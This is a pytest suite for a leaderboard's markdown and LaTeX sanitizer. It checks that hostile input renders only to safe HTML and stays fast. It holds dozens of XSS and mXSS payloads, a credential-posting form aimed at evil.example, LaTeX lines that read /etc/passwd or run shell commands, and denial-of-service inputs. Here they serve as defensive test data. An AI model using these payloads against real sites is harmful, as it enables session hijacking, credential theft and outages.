"""Markdown of strangers: what a page may hold comes out, whatever goes in, and soon."""

import re
import time
import unicodedata
from html.parser import HTMLParser

import pytest

from leaderboard.core import markdown
from leaderboard.core.markdown import as_html

_words = str.split
TEXT = set(_words("a blockquote br code div em h4 h5 h6 hr li ol p pre strong table tbody td th thead tr ul"))
FORMULAS = set(
    _words(
        "math menclose mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow mspace msqrt mstyle "
        "msub msubsup msup mtable mtd mtext mtr munder munderover"
    )
)
EMPTY = {"br", "hr"}
CLASSES = {"wide", "n", "l", "r", "t", "b"}
#: No attribute that runs, fetches, paints, names or moves anything.
HARMLESS = set(
    _words(
        "accent accentunder aria-label class columnspan display displaystyle fence form href largeop linethickness "
        "lspace mathvariant maxsize minsize movablelimits rel role rspace scope scriptlevel separator start stretchy "
        "symmetric tabindex title width"
    )
)


class Checked(HTMLParser):
    """Whether HTML holds nothing but what a method may be made of, each element closed."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()
        assert self.open == [], html

    def handle_starttag(self, tag, attrs):
        assert tag in TEXT | FORMULAS, tag
        assert "math" in self.open or tag in TEXT | {"math"}, tag
        attributes = dict(attrs)
        assert set(attributes) <= HARMLESS, attributes
        assert set(attributes.get("class", "").split()) <= CLASSES, attributes
        if tag == "a":
            assert set(attributes["rel"].split()) >= {"nofollow", "ugc"}
            assert re.match(r"(?i)https?://|mailto:", attributes.get("href", "https://")), attributes
        for name in ("width", "lspace", "rspace", "minsize", "maxsize"):
            assert re.fullmatch(r"\d?(\.\d+)?(em)?", attributes.get(name, "")), attributes
        self.seen.append((tag, attributes))
        self.open += [] if tag in EMPTY else [tag]

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data
        for letter in data:
            assert unicodedata.category(letter) != "Cc" or letter in "\n\t", hex(ord(letter))
            assert unicodedata.bidirectional(letter) not in {"LRE", "RLE", "LRO", "RLO", "LRI", "RLI", "FSI"}, letter

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def tags(html: str) -> list[str]:
    return [tag for tag, _ in Checked(html).seen]


HTML = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<svg/onload=alert(1)>
<svg><script>alert&#40;1)</script></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<body onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
<a href="javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<form action=//evil.example><input name=password><button>x</button></form>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<style>@import '//evil.example/x.css';</style>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example/">
<object data="data:text/html,x"></object><embed src=x>
<template><script>alert(1)</script></template>
<p style="position:fixed;inset:0">x</p>
<p id="live" hx-get="/account/logout/" hx-trigger="load">x</p>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
</div></div></td></table><script>alert(1)</script>
<textarea></textarea><title></title><xmp><script>alert(1)</script></xmp>
`<script>alert(1)</script>` and ``` <script> ```
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
[x](<javascript:alert(1)>)
[x](javascript:alert(1) "t")
[x](JaVaScRiPt:alert(1))
[x](java
script:alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](\javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/svg+xml,<svg onload=alert(1)>)
[x](data:image/png;base64,AAAA)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](//evil.example)
[x](/account/logout/)
[x](?open=other)
[x](#live)
[x](https:evil.example)
[x]( https://a.example"onmouseover="alert(1))
[x](https://a.example 'x" onmouseover="alert(1)')
[x](https://a.example "</a><script>alert(1)</script>")
[x][r] ![x][r] [r]: javascript:alert(1)
<javascript:alert(1)> <data:text/html,x> <https://a.example/"onclick="alert(1)>
![x](https://evil.example/pixel.png)
![x](data:image/svg+xml;base64,AAAA)
[![x](https://evil.example/pixel.png)](javascript:alert(1))
| a | <img src=x onerror=alert(1)> |
""".strip().splitlines()

LATEX = r"""
\href{javascript:alert(1)}{x}
\url{javascript:alert(1)}
\text{<img src=x onerror=alert(1)>}
\text{&lt;img src=x onerror=alert(1)&gt;}
\text{"><script>alert(1)</script>}
\mathrm{<script>}
\class{note is-bad}{x}
\style{position:fixed}{x}
\cssId{live}{x} \htmlId{live}{x}
\htmlData{hx-get=/account/logout/}{x}
\includegraphics{https://evil.example/x.png}
\unicode{x202e} \char"202E
\color{white}{x} \textcolor{white}{x} \colorbox{red}{x}
\hspace{999em}x \hspace{-99em}x \kern99em x
\rule{999em}{999em}
\raise{99em}{x} \vspace{99em}
\begin{matrix}a\\[99em]b\end{matrix}
\tag{<b>} \label{live} \ref{live} \eqref{live}
\begin{align}a\label{live}\tag{1}\end{align}
\toggle{x}{y}\endtoggle \mathtip{a}{b} \texttip{a}{b}
\require{html} \input{/etc/passwd} \write18{id}
\newcommand{\x}{\x\x}\x
\def\x{\x\x}\x
\let\frac\relax \frac12
\catcode`\<=13
\begin{evil}x\end{evil}
\end{matrix}
}{
<!-- --> <annotation-xml> </math><script>alert(1)</script>
style="a" class="live" <b style="x">
""".strip().splitlines()


@pytest.mark.parametrize("text", HTML)
def test_nothing_hostile_comes_through(text):
    for written in (text, f"> {text}", f"- {text}", f"| a |\n|---|\n| {text} |", f"## {text}", f"**{text}**"):
        found = Checked(as_html(written))
        assert not FORMULAS & {tag for tag, _ in found.seen}, "no element of a formula without a formula"


@pytest.mark.parametrize("latex", LATEX)
def test_nothing_hostile_comes_through_a_formula(latex):
    for written in (f"a ${latex}$ b", f"$${latex}$$", f"$$\n{latex}\n$$", f"| a |\n|---|\n| ${latex}$ |"):
        Checked(as_html(written))


def test_what_turns_or_hides_text_is_gone_however_it_is_written():
    marks = "\u202e\u2066\u200f\x07\x1b[31m\x00\ufeff" + "&#x202e;&#8294;&#7;&#x9b;&RightToLeftMark;&rlm;"
    text = f"{marks}a [{marks}b](https://a.example/{marks} '{marks}') `{marks}` $\\text{{{marks}}}$\n\n    {marks}"
    html = as_html(text)
    Checked(html)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]", html)


def test_tables_and_formulas_come_out_as_such_and_scroll_by_themselves():
    html = as_html("| a | b |\n|---|--:|\n| 1 | $x^2$ |\n\n$$\n\\begin{aligned}a&=b\\\\c&=d\\end{aligned}\n$$\n")
    found = Checked(html)
    wide = [attributes for tag, attributes in found.seen if tag == "div"]
    assert [one["aria-label"] for one in wide] == ["Table", "Formula"]
    assert all(one["class"] == "wide" and one["tabindex"] == "0" for one in wide)
    assert tags(html)[1] == "table"
    assert '<math display="block"><mtable' in html
    assert '<td class="n"><math><msup><mi>x</mi><mn>2</mn></msup></math></td>' in html
    assert '<mtd class="r"><mi>a</mi></mtd>' in html


@pytest.mark.parametrize(
    "latex",
    [
        r"\mathcal{L}=\lambda_1\mathcal{L}_{\mathrm{CE}}+\lambda_2\left(1-\frac{2\sum_i p_ig_i}{\sum_i p_i+g_i}\right)",
        r"\hat{y}=\operatorname{softmax}(\mathbf{W}x+\mathbf{b})\in\mathbb{R}^{H\times W\times D}",
        r"\begin{bmatrix}1&0\\0&1\end{bmatrix}",
        r"f(x)=\begin{cases}1&x>0\\0&\text{else}\end{cases}",
        r"\argmax_\theta\,\|x-\mu\|_2^2",
    ],
)
def test_what_teams_write_of_losses_is_converted(latex):
    assert "<code>" not in as_html(f"${latex}$")


def test_a_formula_that_cannot_be_converted_stays_as_it_was_written():
    assert as_html(r"a $\frac{1$ b").strip() == r"<p>a <code>$\frac{1$</code> b</p>"


@pytest.mark.parametrize(
    "text", ["It costs $5 or $10.", "US$5 to US$10", "from $HOME and $PATH", "a_b_c 3*4 x_1", r"\$x\$"]
)
def test_a_text_without_formulas_has_none(text):
    html = as_html(text)
    assert tags(html) == ["p"]
    assert Checked(html).text.strip() == text.replace("\\$", "$")


def test_an_older_plain_text_keeps_its_paragraphs_and_lists():
    html = as_html(
        "We train a U-Net (nnU-Net v2).\nTwo stages.\n\n- CT windows: [-1000, 400]\n- loss: Dice + CE\n\n1) a\n2) b"
    )
    assert tags(html) == ["p", "ul", "li", "li", "ol", "li", "li"]


LONG = 20_000
BOMBS = {
    "emphasis": "*a **b " * 3000,
    "brackets": "[" * 10_000 + "]" * 10_000,
    "links": "[a](" * 5000,
    "images": "![" * 10_000,
    "backticks": "".join("e" + "`" * count for count in range(1, 198)),
    "quotes": "\n".join(">" * count for count in range(1, 200)),
    "lists": "".join("  " * depth + "- a\n" for depth in range(140)),
    "one long head, many rows": "|a" * 60 + "\n" + "|-" * 60 + "|\n" + "a\n" * 9000,
    "a thousand columns": "|" * 1000 + "\n" + "|-" * 1000 + "|\n" + "|\n" * 8000,
    "references": "".join(f"[{n}]: <>\n" for n in range(1500)) + "[a]" * 2000,
    "dollars": "$a" * 10_000,
    "many formulas": "$x$ " * 5000,
    "formulas in cells": "|" + "$x^2$|" * 20 + "\n|" + "-|" * 20 + "\n" + ("|" + "$x^2$|" * 20 + "\n") * 140,
    "a long formula": "$" + "x" * LONG + "$",
    "deep braces": "$" + "{" * 9000 + "x" + "}" * 9000 + "$",
    "deep powers": "$" + "x^{" * 600 + "x" + "}" * 600 + "$",
    "deep roots": "$" + r"\sqrt" * 350 + "x$",
    "deep fractions": "$" + r"\frac{1}{" * 200 + "1" + "}" * 200 + "$",
    "a macro that doubles": "$" + r"\newcommand{\a}[1]{" + "#1" * 400 + r"}\a{\a{\a{" + "x" * 800 + "}}}$",
    "a macro that ends never": r"$\def\a{\a\a}\a$",
    "macros of macros": r"$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b}\c\c\c\c$",
    "primes": "$x" + "'" * 1900 + "$",
    "entities": "&#x202e;" * 2500,
    "too long": "a" * 100_000,
    "tabs": "\t" * LONG,
}


@pytest.mark.parametrize("name", BOMBS)
def test_no_text_is_slow_or_large(name):
    text = BOMBS[name]
    as_html.cache_clear()
    began = time.thread_time()
    html = as_html(text)
    assert time.thread_time() - began < 2  # of the processor; it takes a tenth of that or less
    assert len(html) < 100_000 + 6 * len(text)
    Checked(html)


def test_a_formula_that_is_too_deep_or_too_long_never_reaches_the_native_converter(monkeypatch):
    monkeypatch.setattr(markdown, "_converter", lambda: pytest.fail("called"))
    as_html.cache_clear()
    for latex in ("{" * 31 + "x" + "}" * 31, "x" * 2001, r"\newcommand\a{b}\a", r"\def\a{b}\a", "#1"):
        assert as_html(f"${latex}$").startswith("<p><code>$"), latex


def test_every_page_shows_a_text_rendered_once():
    as_html.cache_clear()
    as_html("$x$ once")
    as_html("$x$ once")
    assert as_html.cache_info()[:2] == (1, 1)
